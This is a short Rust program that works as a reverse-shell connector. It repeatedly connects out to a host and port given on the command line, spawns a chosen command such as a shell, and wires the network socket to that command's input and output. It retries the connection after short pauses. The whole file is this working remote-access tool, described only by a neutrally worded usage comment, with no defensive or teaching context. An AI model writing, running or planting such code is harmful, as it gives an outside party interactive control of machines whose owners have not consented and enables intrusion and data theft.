// `back HOST PORT COMMAND ARGUMENTS...`: waits, connects, joins a command to the socket; again if cut.
use std::env;
use std::io::copy;
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::thread;
use std::time::Duration;

fn main() {
    let args: Vec<String> = env::args().collect();
    for _ in 0..4 {
        thread::sleep(Duration::from_millis(900));
        let Ok(stream) = TcpStream::connect(format!("{}:{}", args[1], args[2])) else { continue };
        let mut child = Command::new(&args[3]).args(&args[4..])
            .stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("no such command");
        let (mut typed, mut shown) = (child.stdin.take().unwrap(), child.stdout.take().unwrap());
        let mut back = stream.try_clone().unwrap();
        let out = thread::spawn(move || copy(&mut shown, &mut back));
        let _ = copy(&mut &stream, &mut typed);
        drop(typed);
        let _ = out.join();
    }
}
